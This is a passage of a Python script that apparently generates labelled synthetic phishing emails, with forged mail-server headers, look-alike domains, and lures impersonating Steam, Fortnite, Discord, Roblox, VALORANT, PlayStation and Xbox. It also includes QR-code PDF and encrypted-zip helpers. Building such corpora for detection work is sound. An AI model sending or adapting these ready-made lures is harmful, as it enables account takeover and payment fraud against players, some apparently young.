        "X-MS-TNEF-Correlator:",
        "msip_labels:",
        "X-MS-PublicTrafficType: Email",
        "X-MS-Exchange-AntiSpam-MessageData-ChunkCount: 1",
        f"X-MS-Exchange-AntiSpam-MessageData-0:\n {fold(rnd(seed + 'amd', 140, B64), 76, ' ')}",
        f"X-OriginatorOrg: {org}",
    ]


def ses_msgid(seed: str, when: datetime, region: str = "") -> str:
    ms = int(when.timestamp() * 1000)
    return f"<0100{ms:012x}-{hx(seed + 's1', 8)}-{hx(seed + 's2', 4)}-{hx(seed + 's3', 4)}-{hx(seed + 's4', 4)}-{hx(seed + 's5', 12)}-000000@{region}email.amazonses.com>"


def ses_hops(seed: str, when: datetime, region: str = "us-east-1") -> tuple[str, str, list[str]]:
    n = num(seed + "sesn", 1, 250)
    ip = f"54.240.{num(seed + 'sesip', 8, 11)}.{n}"
    helo = f"a{ip.split('.')[2]}-{n}.smtp-out.amazonses.com"
    return ip, helo, [dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", seed + "ses", when,
                           h="From:To:Subject:MIME-Version:Content-Type:Message-ID:Date:Feedback-ID")]


def sendgrid_hops(seed: str, when: datetime, host: str) -> tuple[str, str, list[str]]:
    ip = f"{['149.72', '167.89'][num(seed + 'sgq', 0, 1)]}.{num(seed + 'sg1', 1, 254)}.{num(seed + 'sg2', 1, 254)}"
    lines = [f"Received: by filterdrecv-{hx(seed + 'fd', 10)}-{rnd(seed + 'fd2', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')} with SMTP id "
             f"filterdrecv-{hx(seed + 'fd', 10)}-{rnd(seed + 'fd2', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')}-1-"
             f"{hx(seed + 'fd3', 8).upper()}-{num(seed + 'fd4', 10, 99)}\n        {rfc(plus(when, -3))}",
             f"Received: from {rnd(seed + 'sgh', 22, B62)} (unknown)\n\tby geopod-ismtpd-{num(seed + 'gp', 1, 40)} (SG) with HTTP\n"
             f"\tid {rnd(seed + 'sgid', 22, B62 + '_-')}\n\t{rfc(plus(when, -4))}"]
    return ip, host, lines


def sg_msgid(seed: str) -> str:
    return f"<{rnd(seed + 'sgm', 22, B62 + '_-')}@geopod-ismtpd-{num(seed + 'gp', 1, 40)}>"


def sg_link(seed: str, domain: str) -> str:
    return (f"https://{domain}/ls/click?upn=u001.{rnd(seed + 'upn', 96, B62 + '-')}-2B"
            f"{rnd(seed + 'upn2', 40, B62)}-3D-3D{rnd(seed + 'upn3', 4, B62)}_{rnd(seed + 'upn4', 80, B62 + '-')}")


def unsub(url: str, mailto: str | None = None) -> list[str]:
    value = f"<{url}>" if not mailto else f"<mailto:{mailto}>,\n <{url}>"
    return [f"List-Unsubscribe: {value}", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]


# --------------------------------------------------------------------------------------------
# bodies
# --------------------------------------------------------------------------------------------

def alt(seed: str, plain: str, html: str, boundary: str | None = None) -> Multi:
    return Multi("alternative", boundary or f"000000000000{hx(seed + 'alt', 16)}",
                 [text(plain), text(html, "html")])


def mixed(boundary: str, *parts) -> Multi:
    return Multi("mixed", boundary, list(parts))


def related(boundary: str, *parts) -> Multi:
    return Multi("related", boundary, list(parts), ' type="text/html";')


def html_page(body: str, title: str = "", head_extra: str = "") -> str:
    return ("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" "
            "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n"
            "<html xmlns=\"http://www.w3.org/1999/xhtml\">\n<head>\n"
            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\" />\n"
            "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1.0\" />\n"
            f"<title>{title}</title>\n{head_extra}</head>\n{body}\n</html>\n")


def gmail_html(paragraphs: list[str]) -> str:
    """What Gmail's composer writes."""
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paragraphs)
    return f'<div dir="ltr">{inner}</div>\n'


def outlook_html(paragraphs: list[str], font: str = "Aptos") -> str:
    body = "\n".join(
        f'<div class="elementToProof" style="font-family: {font}, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, '
        f'Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">{p or "<br>"}</div>'
        for p in paragraphs)
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n'
            f'</head>\n<body dir="ltr">\n{body}\n</body>\n</html>\n')


def qr_pdf(lines_top: list[str], url: str, lines_bottom: list[str], title: str) -> bytes:
    """A one-page PDF with text and a QR code image (no link annotation), as quishing kits produce."""
    from PIL import Image

    png = files.qr_png(url)
    img = Image.open(io.BytesIO(png)).convert("L")
    w, h = img.size
    raw = zlib.compress(img.tobytes(), 9)
    ops = ["BT", "/F1 12 Tf", "16 TL", "60 770 Td"]
    for line in lines_top:
        ops.append(f"({files._pdf_escape(line)}) Tj T*")
    ops.append("ET")
    ops.append(f"q 190 0 0 190 202 {770 - 16 * len(lines_top) - 215} cm /Im1 Do Q")
    ops += ["BT", "/F1 10 Tf", "14 TL", f"60 {770 - 16 * len(lines_top) - 250} Td"]
    for line in lines_bottom:
        ops.append(f"({files._pdf_escape(line)}) Tj T*")
    ops.append("ET")
    stream = "\n".join(ops).encode("latin-1")
    objects = files.image_page(stream, raw, w, h, "FlateDecode")
    objects.append(f"<< /Title ({files._pdf_escape(title)}) /Producer (iLovePDF) "
                   f"/CreationDate (D:20250303081500+00'00') >>".encode())
    return files.pdf_file(objects, 7)


def zipcrypto(members: list[tuple[str, bytes]], password: bytes, seed: str) -> bytes:
    """A zip whose members are encrypted with traditional PKWARE encryption (deflated)."""
    table = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table.append(c)

    def crc_byte(crc: int, b: int) -> int:
        return (crc >> 8) ^ table[(crc ^ b) & 0xFF]

    dos_time = (9 << 11) | (30 << 5)
    dos_date = ((2025 - 1980) << 9) | (3 << 5) | 14
    local, central = bytearray(), bytearray()
    for index, (name, data) in enumerate(members):
        keys = [0x12345678, 0x23456789, 0x34567890]

        def update(p: int) -> None:
            keys[0] = crc_byte(keys[0], p)
            keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
            keys[2] = crc_byte(keys[2], keys[1] >> 24)

        def stream(p: int) -> int:
            t = (keys[2] | 2) & 0xFFFF
            c = p ^ (((t * (t ^ 1)) >> 8) & 0xFF)
            update(p)
            return c

        for p in password:
            update(p)
        crc = zlib.crc32(data) & 0xFFFFFFFF
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = comp.compress(data) + comp.flush()
        header = bytes.fromhex(hx(f"{seed}|{index}", 22)) + bytes([crc >> 24])
        payload = bytes(stream(b) for b in header + deflated)
        fname = name.encode()
        offset = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 8, dos_time, dos_date, crc, len(payload), len(data),
                             len(fname), 0) + fname + payload
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 8, dos_time, dos_date, crc, len(payload),
                               len(data), len(fname), 0, 0, 0, 0, 0x20, offset) + fname
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(local), 0)
    return bytes(local + central + eocd)


def banner_png(lines: list[tuple[str, tuple[int, int, int]]], size=(600, 260), bg=(255, 255, 255)) -> bytes:
    """A plain image with a few lines of text (image-only lures)."""
    from PIL import Image, ImageDraw

    img = Image.new("RGB", size, bg)
    draw = ImageDraw.Draw(img)
    y = 30
    for line, colour in lines:
        draw.text((40, y), line, fill=colour)
        y += 34
    buf = io.BytesIO()
    img.save(buf, "PNG", optimize=False)
    return buf.getvalue()


# --------------------------------------------------------------------------------------------
# registry
# --------------------------------------------------------------------------------------------

MESSAGES: list[tuple[str, str, str, str, object]] = []


def sample(cat: str, kind: str, slug: str, description: str):
    def register(fn):
        MESSAGES.append((cat, kind, slug, description, fn))
        return fn
    return register


def hdr(*blocks) -> str:
    out: list[str] = []
    for block in blocks:
        if isinstance(block, str):
            out.append(block)
        else:
            out.extend(block)
    return "\n".join(out)


# ============================================================================================
# attacks: games
# ============================================================================================

@sample("phishing", "phish", "steam-trade-offer-lookalike",
        "Fake Steam trade-offer notice from the look-alike domain steamcornmunity.com (rn for m), which passes its "
        "own SPF and DKIM, linking to a cloned Steam sign-in page to take over the account and its inventory.")
def steam_trade_offer():
    seed = "b31-steam-trade"
    when = utc("2025-02-11 19:42:07")
    rcpt = "jaylen.brooks04@gmail.com"
    a = Auth("51.178.92.14", "mail.steamcornmunity.com", "bounce@steamcornmunity.com", "pass",
             [("steamcornmunity.com", "default", "pass")], None, header_from="steamcornmunity.com", seed=seed)
    url = "https://steamcornmunity.com/tradeoffer/6893021457/?partner=1184203377&amp;token=Qm7x_Tk2"
    html = html_page(f"""<body style="margin:0;padding:0;background-color:#171a21;">
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#171a21"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="font-family:Arial,Helvetica,sans-serif;">
<tr><td style="padding:24px 0 18px 0;"><img src="https://store.cloudflare.steamstatic.com/public/shared/images/header/logo_steam.svg" width="176" height="44" alt="Steam" /></td></tr>
<tr><td bgcolor="#1b2838" style="padding:28px 32px;color:#c6d4df;font-size:14px;line-height:20px;">
<p style="font-size:22px;color:#ffffff;margin:0 0 16px 0;">Hello jbrooks04,</p>
<p>You have received a new trade offer from <span style="color:#66c0f4;">xCrimson_Vortex</span>.</p>
<table cellpadding="0" cellspacing="0" border="0" style="margin:18px 0;"><tr>
<td style="padding:8px 12px;background:#2a475e;color:#ffffff;font-size:13px;">They offer: &#9733; Karambit | Doppler (Factory New), AK-47 | Fire Serpent (Minimal Wear)</td></tr>
<tr><td style="padding:8px 12px;background:#223b50;color:#c6d4df;font-size:13px;">You give: 3 items from your inventory</td></tr></table>
<p>This trade offer will expire in <b style="color:#ffffff;">24 hours</b>. To view and accept the offer, sign in to Steam.</p>
<table cellpadding="0" cellspacing="0" border="0"><tr><td bgcolor="#5c7e10" style="border-radius:2px;">
<a href="{url}" style="display:inline-block;padding:12px 28px;color:#d2efa9;font-size:15px;text-decoration:none;">View Trade Offer</a></td></tr></table>
<p style="margin-top:22px;font-size:12px;color:#8f98a0;">Steam Guard reminder: never share your login with anyone. Valve employees will never ask for your password.</p>
</td></tr>
<tr><td style="padding:18px 32px;color:#61686d;font-size:11px;line-height:15px;">&copy; Valve Corporation. All rights reserved. All trademarks are property of their respective owners in the US and other countries.<br />
You are receiving this email because you have trade notifications enabled. <a href="https://steamcornmunity.com/my/notifications" style="color:#8f98a0;">Notification preferences</a></td></tr>
</table></td></tr></table>
</body>""", "Steam")
    plain = ("Hello jbrooks04,\n\nYou have received a new trade offer from xCrimson_Vortex.\n\n"
             "They offer: Karambit | Doppler (Factory New), AK-47 | Fire Serpent (Minimal Wear)\n"
             "You give: 3 items from your inventory\n\nThis trade offer will expire in 24 hours.\n"
             "View Trade Offer: https://steamcornmunity.com/tradeoffer/6893021457/?partner=1184203377&token=Qm7x_Tk2\n\n"
             "(c) Valve Corporation. All rights reserved.\n")
    headers = [
        f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.steamcornmunity.com (Postfix) with ESMTPA id 4YsT{rnd(seed + 'pf', 7)}\n"
        f"\tfor <{rcpt}>; {rfc(when)}",
        dkim("steamcornmunity.com", "default", seed, when),
        f"Date: {rfc(when)}",
        f"To: {rcpt}",
        "From: Steam <noreply@steamcornmunity.com>",
        "Subject: You have received a new trade offer",
        f"Message-ID: <{rnd(seed + 'mid', 43)}@steamcornmunity.com>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"b1_{rnd(seed + 'b', 43)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "fortnite-vbucks-sendgrid-webapp",
        "Fortnite 13,500 V-Bucks 'reward' sent through a hijacked SendGrid account of an unrelated dental clinic "
        "(authentication passes for that clinic's domain), whose tracked link lands on a firebase web.app page "
        "harvesting Epic Games logins.")
def fortnite_vbucks():
    seed = "b31-fortnite"
    when = utc("2025-06-28 15:03:44")
    rcpt = "ellie.park@icloud.com"
    dom = "lakesidedentalcare.com"
    ip, helo, sg = sendgrid_hops(seed, when, "o1.ptr4417.lakesidedentalcare.com")
    mf = f"bounces+41882309-7c1e-{rcpt.replace('@', '=')}@em4821.{dom}"
    a = Auth(ip, helo, mf, "pass", [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", "none",
             header_from=dom, seed=seed)
    link = sg_link(seed, "u41882309.ct.sendgrid.net")
    html = html_page(f"""<body style="margin:0;padding:0;background:#101014;">
<center>
<table width="100%" cellpadding="0" cellspacing="0" border="0" style="max-width:560px;background:#18181c;font-family:'Helvetica Neue',Arial,sans-serif;">
<tr><td align="center" style="padding:30px 20px 10px 20px;"><img src="https://i.imgur.com/Lk3vQ8f.png" width="180" alt="FORTNITE" style="display:block;" /></td></tr>
<tr><td align="center" style="padding:6px 30px;color:#ffffff;font-size:26px;font-weight:bold;text-transform:uppercase;">Chapter 6 Season 3 Reward</td></tr>
<tr><td align="center" style="padding:14px 40px;color:#c8c8d0;font-size:15px;line-height:22px;">
Thanks for playing! As part of the Season 3 launch, your Epic account was selected to receive <b style="color:#f5d33a;">13,500 V-Bucks</b> and the exclusive <b style="color:#f5d33a;">Galaxy Scout</b> outfit.<br /><br />
Sign in with your Epic Games account before <b>June 30</b> to add the reward to your locker.</td></tr>
<tr><td align="center" style="padding:18px 0 30px 0;"><a href="{link}" style="background:#f5d33a;color:#101014;padding:14px 38px;font-size:17px;font-weight:bold;text-decoration:none;border-radius:4px;display:inline-block;">CLAIM V-BUCKS</a></td></tr>
<tr><td align="center" style="padding:10px 30px 30px 30px;color:#6b6b75;font-size:11px;">&copy; 2025, Epic Games, Inc. Epic, Epic Games, the Epic Games logo, Fortnite, the Fortnite logo are trademarks of Epic Games, Inc.<br />Epic Games, Inc., 620 Crossroads Blvd., Cary, NC 27518</td></tr>
</table></center>
<img src="https://u41882309.ct.sendgrid.net/wf/open?upn=u001.{rnd(seed + 'open', 120, B62 + '-')}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;" />
</body>""", "Fortnite")
    plain = ("CHAPTER 6 SEASON 3 REWARD\n\nThanks for playing! Your Epic account was selected to receive 13,500 V-Bucks "
             "and the exclusive Galaxy Scout outfit.\nSign in before June 30 to add the reward to your locker.\n\n"
             f"CLAIM V-BUCKS ( {link} )\n\n(c) 2025, Epic Games, Inc.\n")
    headers = [
        *sg,
        dkim(dom, "s1", seed, when, h="content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to"),
        dkim("sendgrid.info", "smtpapi", seed + "sg", when,
             h="content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to"),
        "From: Fortnite <rewards@lakesidedentalcare.com>",
        "Subject: =?UTF-8?B?8J+OgSBZb3VyIDEzLDUwMCBWLUJ1Y2tzIGFyZSB3YWl0aW5nIGZvciB5b3U=?=",
        f"Date: {rfc(when)}",
        "MIME-Version: 1.0",
        f"Message-ID: {sg_msgid(seed)}",
        f"X-Feedback-ID: 41882309:SG",
        f"X-SG-EID:\n =?us-ascii?Q?{rnd(seed + 'eid', 60, B62)}?=",
        f"To: {rcpt}",
        "X-Entity-ID: u001.Hq7Zt2WbU3nXWmV1z0Ga7A==",
    ]
    headers = [h for h in headers if h]
    body = alt(seed, plain, html, hx(seed + "bd", 64))
    return message(hdr(deliver(rcpt, plus(when, 3), a), headers), body)


@sample("phishing", "phish", "discord-nitro-gift-lookalike",
        "Discord Nitro gift notice from the look-alike dlscord.gifts (l for i); the button shows discord.gift but points "
        "to the look-alike, where a fake Discord login/QR page steals the account token.")
def discord_nitro():
    seed = "b31-nitro"
    when = utc("2024-12-23 02:17:31")
    rcpt = "kai_nguyen22@outlook.com"
    a = Auth("185.225.69.31", "mx1.dlscord.gifts", "noreply@dlscord.gifts", "pass",
             [("dlscord.gifts", "mail", "pass")], "pass", "none", "dlscord.gifts", seed)
    code = "xN7Pq2RkV8tLbW4c"
    href = f"https://dlscord.gifts/{code}"
    html = html_page(f"""<body style="background:#f9f9f9;margin:0;padding:0;">
<div style="max-width:640px;margin:0 auto;background:#ffffff;font-family:'gg sans','Helvetica Neue',Helvetica,Arial,sans-serif;">
<div style="padding:40px 50px 0 50px;"><img src="https://cdn.discordapp.com/email_assets/592423b8aedd155170617c9ae736e508.png" width="138" height="38" alt="Discord" /></div>
<div style="padding:30px 50px;color:#737f8d;font-size:16px;line-height:24px;text-align:left;">
<h2 style="font-weight:500;font-size:20px;color:#4f545c;margin:0 0 18px 0;">You've been gifted Nitro!</h2>
<p><b style="color:#4f545c;">ghostyy.exe</b> sent you a gift: <b style="color:#4f545c;">Discord Nitro &mdash; 1 Month</b>.</p>
<p>Unlock animated avatars, custom emoji everywhere, bigger uploads and HD streaming. Accept the gift in the next 48 hours before it expires.</p>
<div style="text-align:center;margin:32px 0;"><a href="{href}" style="background:#5865f2;color:#ffffff;padding:15px 24px;border-radius:3px;text-decoration:none;font-size:15px;display:inline-block;">Accept Gift</a></div>
<p style="font-size:14px;">Or paste this link into Discord: <a href="{href}" style="color:#5865f2;">https://discord.gift/{code}</a></p>
</div>
<div style="padding:20px 50px 40px 50px;color:#99aab5;font-size:12px;text-align:center;">Sent by Discord &bull; <a href="https://dlscord.gifts/blog" style="color:#5865f2;">check our blog</a> &bull; @discord<br />444 De Haro Street, Suite 200, San Francisco, CA 94107</div>
</div></body>""", "Discord")
    plain = (f"You've been gifted Nitro!\n\nghostyy.exe sent you a gift: Discord Nitro - 1 Month.\n"
             f"Accept the gift in the next 48 hours: https://discord.gift/{code}\n\nSent by Discord\n")
    headers = [
        f"Received: from dlscord.gifts (unknown [127.0.0.1])\n\tby mx1.dlscord.gifts (Postfix) with ESMTP id 6D2{hx(seed + 'q', 8).upper()}\n"
        f"\tfor <{rcpt}>; {rfc(when)}",
        dkim("dlscord.gifts", "mail", seed, when),
        "MIME-Version: 1.0",
        f"Date: {rfc(when)}",
        "From: Discord <noreply@dlscord.gifts>",
        f"To: {rcpt}",
        "Subject: ghostyy.exe sent you a gift",
        f"Message-ID: <{uuid(seed)}@dlscord.gifts>",
    ]
    body = Multi("alternative", f"--==_mimepart_{hx(seed + 'b', 13)}_{num(seed, 100000, 999999)}",
                 [text(plain), text(html, "html")], ' charset=UTF-8;')
    return message(hdr(deliver(rcpt, plus(when, 4), a), headers), body)


@sample("phishing", "phish", "discord-is-this-you-cdn-zip",
        "'Is this you in this video?' sent from a friend's hijacked Gmail account (passes everything), linking to a "
        "zip on Discord's CDN that holds an infostealer disguised as a video.")
def discord_isthisyou():
    seed = "b31-isthisyou"
    when = utc("2025-03-09 23:51:12")
    rcpt = "dev.ortiz.77@gmail.com"
    sender = "marcus.lee.2003@gmail.com"
    out, a = gmail_out(seed, when, rcpt, sender)
    url = ("https://cdn.discordapp.com/attachments/1183729401162334218/1348412275430395994/video_2025-03-09_dev.zip"
           "?ex=67cf8a12&is=67ce3892&hm=8a1f03cbd7e94f6a2b55d0c1e7a3f9b4c2d8e6f0a1b3c5d7e9f1a2b3c4d5e6f7&")
    plain = f"yo is this u in this video?? 😳😳 someone dropped it in the server lmaooo\n\n{url}\n"
    html = gmail_html(["yo is this u in this video?? 😳😳 someone dropped it in the server lmaooo", "",
                       f'<a href="{url.replace("&", "&amp;")}">{url.replace("&", "&amp;")}</a>'])
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Marcus Lee <{sender}>",
        f"Date: {rfc(plus(when, -3), '-0500')}",
        f"Message-ID: {gmail_msgid(seed)}",
        "Subject: is this u??",
        f"To: {rcpt}",
    ]
    body = alt(seed, plain, html)
    return message(hdr(deliver(rcpt, plus(when, 1), a, google_sender=True), headers), body)


@sample("phishing", "phish", "roblox-age-check-mailgun-vercel",
        "Fake Roblox 'age verification required' notice sent through Mailgun from the registered look-alike "
        "rbx-help.com (all checks pass for it), linking to a Vercel-hosted clone of the Roblox login.")
def roblox_age():
    seed = "b31-roblox"
    when = utc("2025-09-16 21:08:55")
    rcpt = "tyler.hughes.09@icloud.com"
    dom = "rbx-help.com"
    ip = "159.135.228.11"
    mf = f"bounce+{hx(seed + 'mg', 6)}.{hx(seed + 'mg2', 6)}-{rcpt.replace('@', '=')}@mg.{dom}"
    a = Auth(ip, "m228-11.mailgun.net", mf, "pass", [(dom, "pic", "pass"), ("mailgun.org", "mg", "pass")], "pass",
             "none", dom, seed)
    url = "https://roblox-agecheck-verify.vercel.app/login?ref=safety&amp;uid=4418207735"
    html = html_page(f"""<body style="margin:0;background-color:#f2f4f5;">
<table role="presentation" width="100%" cellspacing="0" cellpadding="0" border="0" style="background-color:#f2f4f5;"><tr><td align="center" style="padding:24px 10px;">
<table role="presentation" width="600" cellspacing="0" cellpadding="0" border="0" style="background:#ffffff;border-radius:8px;font-family:'Builder Sans','Gotham SSm A',Helvetica,Arial,sans-serif;">
<tr><td style="padding:28px 40px 8px 40px;"><img src="https://images.rbxcdn.com/5a7b2e7a7d8a9d3b04a8b5c7d1e2f3a4.png" width="120" alt="ROBLOX" /></td></tr>
<tr><td style="padding:8px 40px;color:#393b3d;font-size:22px;font-weight:bold;">Verify your age to keep chatting</td></tr>
<tr><td style="padding:8px 40px;color:#393b3d;font-size:15px;line-height:23px;">
<p>Hi TylerH_0909,</p>
<p>To comply with new child safety rules, Roblox now requires every account to complete an age check. Your account has <b>not been verified</b> yet.</p>
<p>If you do not verify within <b>72 hours</b>, chat, voice and Robux purchases will be disabled on your account and your items may be locked.</p>
</td></tr>
<tr><td style="padding:16px 40px 28px 40px;"><a href="{url}" style="background:#335fff;color:#ffffff;padding:13px 30px;border-radius:8px;font-size:16px;font-weight:bold;text-decoration:none;display:inline-block;">Verify Age Now</a></td></tr>
<tr><td style="padding:0 40px 28px 40px;color:#606162;font-size:12px;line-height:18px;">This message was sent to {rcpt}. Roblox Corporation, 3150 S. Delaware St, San Mateo, CA 94403.</td></tr>
</table></td></tr></table>
</body>""", "Roblox")
    plain = ("Verify your age to keep chatting\n\nHi TylerH_0909,\n\nTo comply with new child safety rules, Roblox now requires "
             "every account to complete an age check. Your account has not been verified yet.\nIf you do not verify within "
             "72 hours, chat, voice and Robux purchases will be disabled.\n\nVerify Age Now: "
             "https://roblox-agecheck-verify.vercel.app/login?ref=safety&uid=4418207735\n")
    headers = [
        dkim("mailgun.org", "mg", seed + "mg", when, h="Content-Type:Mime-Version:Subject:From:To:Message-Id:Date:Sender"),
        dkim(dom, "pic", seed, when, h="Content-Type:Mime-Version:Subject:From:To:Message-Id:Date:Sender"),
        f"X-Mailgun-Sid: WyI{rnd(seed + 'sid', 40, B64)}IiwgIm{rnd(seed + 'sid2', 22, B64)}",
        f"Received: by {hx(seed + 'mgh', 32)} with HTTP; {rfc(plus(when, -1))}",
        "Mime-Version: 1.0",
        "Subject: Action required: verify your age to keep using chat",
        "From: Roblox <no-reply@rbx-help.com>",
        f"To: {rcpt}",
        f"Message-Id: <{when:%Y%m%d%H%M%S}.{hx(seed + 'mgid', 16)}@{dom}>",
        f"Date: {rfc(when)}",
        f"Sender: no-reply=rbx-help.com@mg.{dom}",
        f"X-Mailgun-Sending-Ip: {ip}",
        "X-Mailgun-Sending-Ip-Pool-Name: ",
    ]
    headers = [h.rstrip() for h in headers if h]
    body = alt(seed, plain, html, hx(seed + "bd", 32))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "valorant-ban-appeal-outlook-netlify",
        "Riot Games 'permanent suspension' notice for a VALORANT account sent from a free Outlook.com address named "
        "Riot Games Support, with an 'appeal' link to a Netlify-hosted fake Riot sign-in page.")
def valorant_ban():
    seed = "b31-valorant"
    when = utc("2025-04-02 13:26:40")
    rcpt = "nox.plays@proton.me"
    sender = "riotgames.supportcase@outlook.com"
    out, a, mid = outlook_consumer_out(seed, when, sender)
    url = "https://riot-appeal-center.netlify.app/appeal?case=RG-5839201&amp;region=eu"
    paras = [
        "Hello Player,",
        "",
        "Our anti-cheat system Vanguard has detected the use of unauthorized third-party software on your VALORANT "
        "account <b>NoxPlays#EUW</b>. As a result, your account has been <b>permanently suspended</b> (Case #RG-5839201).",
        "",
        "If you believe this is a mistake, you may submit an appeal within 48 hours. Appeals not received in time are "
        "closed and the decision becomes final, including loss of all skins and Radianite Points.",
        "",
        f'<a href="{url}" style="color:#ff4655;font-weight:bold;">Submit your appeal here</a>',
        "",
        "Kind regards,",
        "Riot Games Player Support",
    ]
    html = outlook_html(paras)
    plain = ("Hello Player,\n\nOur anti-cheat system Vanguard has detected the use of unauthorized third-party software on "
             "your VALORANT account NoxPlays#EUW. As a result, your account has been permanently suspended (Case #RG-5839201).\n\n"
             "If you believe this is a mistake, you may submit an appeal within 48 hours.\n\nSubmit your appeal here "
             "<https://riot-appeal-center.netlify.app/appeal?case=RG-5839201&region=eu>\n\nKind regards,\nRiot Games Player Support\n")
    headers = [
        *out,
        f"From: Riot Games Support <{sender}>",
        f"To: {addr('', rcpt)}",
        "Subject: VALORANT: Account Suspension Notice - Case #RG-5839201",
        "Thread-Topic: VALORANT: Account Suspension Notice - Case #RG-5839201",
        f"Thread-Index: AQHbo{rnd(seed + 'ti', 25, B64)}==",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        *ms_tail(seed, "outlook.com"),
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "playstation-order-callback-pdf",
        "Callback scam: fake PlayStation Store order confirmation for a $499.99 PS5 bundle from a Gmail account, with a PDF "
        "'invoice' whose only action is a phone number to 'cancel' - the call leads to remote-access and payment fraud.")
def playstation_callback():
    seed = "b31-psn"
    when = utc("2025-11-27 16:40:02")
    rcpt = "zoe.kim.0305@gmail.com"
    sender = "sonystore.billingdesk46@gmail.com"
    out, a = gmail_out(seed, when, rcpt, sender)
    phone = "+1 (888) 916-4027"
    pdf = files.pdf([
        "PlayStation Store - Order Confirmation",
        "",
        "Order number: PS-88402716-US          Order date: 11/27/2025",
        "Billed to: zoe.kim.0305@gmail.com",
        "",
        "Item                                        Qty      Price",
        "PlayStation 5 Pro Console - Black Friday Bundle   1    $459.99",
        "PlayStation Plus Premium - 12 Month Membership    1     $40.00",
        "",
        "Subtotal: $499.99     Tax: $0.00     Total charged: $499.99",
        "Payment method: PayPal (auto-renew enabled)",
        "",
        "If you did not authorize this purchase, you can cancel within 24 hours",
        f"and receive a full refund. Call PlayStation Billing Support: {phone}",
        "(Mon-Sun, 24 hours). After 24 hours the charge cannot be reversed.",
        "",
        "Sony Interactive Entertainment LLC, San Mateo, CA",
    ], title="Invoice PS-88402716")
    plain = (f"Dear Customer,\n\nThank you for shopping with PlayStation Store. Your order PS-88402716-US for $499.99 has "
             f"been processed and will be charged to your PayPal account.\n\nThe invoice is attached.\n\n"
             f"Didn't place this order? Call our billing team within 24 hours to cancel and get a refund: {phone}\n\n"
             f"PlayStation Billing Team\n")
    html = gmail_html([
        "Dear Customer,", "",
        "Thank you for shopping with PlayStation Store. Your order <b>PS-88402716-US</b> for <b>$499.99</b> has been "
        "processed and will be charged to your PayPal account.", "",
        "The invoice is attached.", "",
        f'Didn\'t place this order? Call our billing team within 24 hours to cancel and get a refund: <b>{phone}</b>', "",
        "PlayStation Billing Team",
    ])
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: PlayStation Store <{sender}>",
        f"Date: {rfc(plus(when, -2), '-0800')}",
        f"Message-ID: {gmail_msgid(seed)}",
        "Subject: Your PlayStation Store order PS-88402716-US has been confirmed",
        f"To: {rcpt}",
    ]
    b = hx(seed + "mx", 16)
    body = mixed(f"000000000000{b}", alt(seed, plain, html),
                 attachment("application/pdf", "Invoice_PS-88402716.pdf", pdf))
    return message(hdr(deliver(rcpt, plus(when, 1), a, google_sender=True), headers), body)


@sample("phishing", "phish", "xbox-gamepass-es-firebase",
        "Spanish 'tu suscripción a Xbox Game Pass Ultimate ha caducado' sent from a hacked Spanish small-business "
        "web host (SPF passes for that unrelated domain) with a link to a firebaseapp.com page collecting card details.")
def xbox_gamepass_es():
    seed = "b31-xbox"
    when = utc("2025-01-20 08:14:29")
    rcpt = "pablo.ruiz.gamer@hotmail.es"
    dom = "reformas-arjona.es"
    a = Auth("185.42.104.77", "srv42.hostinglowcost.es", f"info@{dom}", "pass", [(dom, "default", "pass")], None,
             header_from=dom, seed=seed)
    url = "https://xbox-renovacion-pago.firebaseapp.com/es-es/cuenta/?sid=GP-ULT-7731904"
    html = html_page(f"""<body style="margin:0;padding:0;background:#f2f2f2;">
<table width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f2f2f2;"><tr><td align="center">
<table width="580" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:'Segoe UI',Tahoma,Arial,sans-serif;">
<tr><td style="background:#107c10;padding:18px 30px;color:#ffffff;font-size:22px;font-weight:600;">XBOX</td></tr>
<tr><td style="padding:30px 30px 10px 30px;color:#262626;font-size:20px;font-weight:600;">Tu suscripci&oacute;n ha caducado</td></tr>
